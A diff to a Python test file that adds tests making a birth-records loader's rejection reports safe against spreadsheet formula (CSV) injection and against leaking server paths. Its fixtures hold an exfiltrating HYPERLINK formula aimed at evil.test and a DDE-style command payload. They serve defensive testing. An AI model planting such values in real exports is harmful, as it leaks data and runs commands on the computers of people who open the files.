@@ -6,6 +6,7 @@ embedded SQLite and the real PostgreSQL server).
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 from pathlib import Path
 
@@ -18,7 +19,7 @@ from matneo.config import Settings
 from matneo.db.models import Load, LoadTrustMonth
 from matneo.db.session import prepare, transaction
 from matneo.records.changes import MonthChange
-from matneo.records.load import UnreadableInput, load_files
+from matneo.records.load import UnreadableInput, load_files, rejection_report_csv
 from matneo.records.schema import FIELD_NAMES
 from matneo.records.status import store_status
 from matneo.records.store import RecordStore
@@ -124,7 +125,7 @@ def test_parquet_input_loads_like_csv(settings: Settings, make_row, tmp_path: Pa
     assert (item.rows_loaded, item.rows_rejected) == (1, 1)
     rejection = item.rejection_file.read_text()
     # Parquet has no header row, so the second record is row 2.
-    assert ",2,birth_weight_g,99999," in rejection.splitlines()[1]
+    assert '"births.parquet",2,"birth_weight_g","99999",' in rejection.splitlines()[1]
 
 
 def test_directory_loads_its_data_files(settings: Settings, make_row, write_csv, tmp_path: Path) -> None:
@@ -255,3 +256,38 @@ def test_over_long_text_is_rejected_and_cut_short_in_the_report(
     assert item.top_reasons == [("mother_id is longer than 64 characters", 1)]
     (line,) = [line for line in item.rejection_file.read_text().splitlines() if "mother_id_length" in line]
     assert "M" * 100 + "…" in line and "M" * 101 not in line
+
+
+FORMULA = '=HYPERLINK("http://evil.test/?"&A2,"x")'
+
+
+def test_rejection_reports_name_the_file_not_its_path_and_hold_no_formulas(
+    settings: Settings, make_row, write_csv, tmp_path: Path
+) -> None:
+    """The attack: values typed to run in whoever opens the report in a spreadsheet (OWASP CSV
+    Injection); before, the report kept them as they were and named the file by its server path."""
+    rows = [make_row(), make_row(birth_weight_g=FORMULA), make_row(sex="@SUM(1+1)*cmd|' /C calc'!A0")]
+    path = write_csv(tmp_path / "server" / "uploads" / "births.csv", rows)
+    (item,) = load_files([path], settings).files
+    assert item.rows_rejected == 2 and item.rejection_file is not None
+    text = item.rejection_file.read_text(encoding="utf-8")
+    assert str(tmp_path) not in text and "/server/" not in text
+    report = list(csv.DictReader(text.splitlines()))
+    assert {r["source_file"] for r in report} == {"births.csv"}
+    assert {r["value"] for r in report} >= {"'" + FORMULA, "'@SUM(1+1)*cmd|' /C calc'!A0"}
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in report for cell in r.values())
+    assert all(line.split(",")[1].isdigit() for line in text.splitlines()[1:]), "row numbers stay numbers"
+    assert rejection_report_csv(item.rejection_file) == text, "downloading changes nothing more"
+
+
+def test_reports_written_before_are_made_safe_when_downloaded(tmp_path: Path) -> None:
+    old = tmp_path / "old-rejections.csv"  # as the loader wrote them before: full path, raw values
+    quoted = FORMULA.replace('"', '""')
+    old.write_text(
+        "source_file,row,field,value,reason,rule\n"
+        f'/srv/matneo/uploads/abc/births.csv,3,sex,"{quoted}",bad sex,sex_code\n'
+        "C:\\data\\births.csv,4,birth_weight_g,-12,too light,weight_range\n"
+    )
+    report = list(csv.reader(rejection_report_csv(old).splitlines()))
+    assert report[1] == ["births.csv", "3", "sex", "'" + FORMULA, "bad sex", "sex_code"]
+    assert report[2][:4] == ["births.csv", "4", "birth_weight_g", "'-12"]
